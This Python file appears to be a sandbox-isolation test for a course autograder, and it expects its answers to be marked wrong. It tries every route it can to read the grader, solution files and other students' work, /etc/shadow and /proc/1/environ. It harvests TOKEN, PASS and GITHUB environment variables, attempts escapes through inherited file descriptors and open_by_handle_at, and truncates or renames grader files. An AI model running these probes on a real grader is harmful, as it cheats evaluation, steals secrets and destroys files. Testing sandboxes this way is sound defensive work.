"""Reads tasks, solutions, grader and other students by every way that Python and Linux know.

expect: sigmoid wrong, ten_layers wrong, derivation wrong
"""

# %%
import ctypes
import glob
import importlib
import importlib.machinery
import importlib.util
import inspect
import linecache
import mmap
import os
import pkgutil
import runpy
import stat
import subprocess
import sys
import zipimport
from pathlib import Path

import numpy as np

import course_utils

found = []


def attempt(action, *arguments, **named):
    try:
        result = action(*arguments, **named)
    except BaseException:
        return None
    if result not in (None, b"", "", [], 0):
        found.append((action, arguments, result))
    return result


# %%
package = Path(course_utils.__file__).parent
wanted = [
    package / "tasks" / "02.py",
    package / "tasks" / "__init__.py",
    package / "tasks",
    package / "grading" / "marker.py",
    package / "check.py",
    package.parent / "solutions" / "02_sigmoid.ipynb",
    package.parent / "solutions",
    package.parent / "tests",
    package.parent / ".git" / "config",
    Path("/etc/passwd"),
    Path("/etc/shadow"),
    Path("/proc/self/maps"),
    Path("/proc/self/fd"),
    Path("/proc/1/environ"),
    Path("/proc/1/root"),
    Path("/proc/self/root"),
    Path("/home"),
    Path("/sys/kernel"),
    Path("/var/log"),
]
wanted += [Path(os.path.relpath(path)) for path in wanted]
wanted += [Path(f"{root}{path}") for root in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd/..")
           for path in wanted[:6]]

# %%
for number, path in enumerate(wanted):
    attempt(path.read_bytes)
    attempt(os.listdir, path)
    attempt(lambda p: os.read(os.open(p, os.O_RDONLY), 9), path)
    attempt(lambda p: os.listdir(os.open(p, os.O_PATH)), path)
    attempt(lambda p: mmap.mmap(os.open(p, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:9], path)
    attempt(lambda p: np.fromfile(p, dtype="u1").tolist(), path)
    attempt(lambda p: np.memmap(p)[:9].tolist(), path)
    attempt(linecache.getlines, str(path))
    attempt(runpy.run_path, str(path))
    attempt(zipimport.zipimporter, str(path))
    attempt(importlib.machinery.SourceFileLoader("x", str(path)).load_module)
    attempt(importlib.machinery.SourceFileLoader("x", str(path)).get_data, str(path))
    attempt(lambda p: subprocess.run(["cat", p], capture_output=True).stdout, path)
    attempt(lambda p: subprocess.run(["ls", p], capture_output=True).stdout, path)
    attempt(lambda p: subprocess.run(["/bin/sh", "-c", f"read x < '{p}'; echo -n $x"],
                                     capture_output=True).stdout, path)
    attempt(lambda p, n: os.symlink(p, f"link {n}") or Path(f"link {n}").read_bytes(), path, number)
    attempt(lambda p, n: os.symlink(p, f"way {n}") or os.listdir(f"way {n}"), path, number)
    attempt(lambda p, n: os.link(p, f"hard {n}") or True, path, number)
    attempt(lambda p, n: os.rename(p, f"moved {n}") or True, path, number)
    attempt(lambda p: os.truncate(p, 0) or True, path)
for path in wanted[:4]:
    attempt(os.stat, path)
for pattern in ("/tmp/*", "/home/*", "/roo?/*", "/*/solutions/*", "/proc/*/fd/*", "/proc/*/mem"):
    attempt(glob.glob, pattern)

# %%
for name in ("tasks.02", "tasks", "tasks.kinds", "tasks.values", "grading.marker", "grading.run"):
    sys.modules.pop(f"course_utils.{name}", None)
    attempt(importlib.import_module, f"course_utils.{name}")
    attempt(importlib.util.find_spec, f"course_utils.{name}")
    attempt(pkgutil.get_loader, f"course_utils.{name}")
attempt(pkgutil.get_data, "course_utils", "tasks/02.py")
attempt(importlib.resources.files("course_utils").joinpath("tasks/02.py").read_bytes)
import course_utils.check

attempt(inspect.getsource, course_utils.check.check) if "silent" not in str(
    course_utils.check.__doc__
) and course_utils.check.check.__name__ != "<lambda>" else None
attempt(lambda: sys.modules["__main__"].__loader__.get_data(str(package / "grading/marker.py")))

# %%
inherited = []
for number in range(3, 1024):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISCHR(kind):  # /dev/null
        continue
    inherited.append(number)
    attempt(os.fchdir, number)
    attempt(os.listdir, number)
    attempt(lambda n: os.open("..", os.O_RDONLY, dir_fd=n), number)
    attempt(lambda n: os.pread(n, 100, 0), number)
if len(inherited) > 2:  # the two sockets that it answers on: a channel and a bell
    found.append(inherited)

# %%
for handle in range(2000):  # by number, as a file server would
    held = ctypes.create_string_buffer(b"\x08\0\0\0\1\0\0\0" + handle.to_bytes(4, "little") + bytes(8))
    attempt(lambda: ctypes.CDLL(None).open_by_handle_at(-100, held, 0) + 1)
words = ("solution", "seed", "secret", "course", "GITHUB", "TOKEN", "PASS")
for name, value in os.environ.items():
    if any(word in name for word in words if word != "course"):
        found.append(name)


# %%
def sigmoid(z):
    return 1 / (1 + 2.718281828459045 ** (-z)) if found else "nothing"


ten_layers = 0.25**10 if found else 1.0
derivation = "DBEAC" if found else "ABCDE"
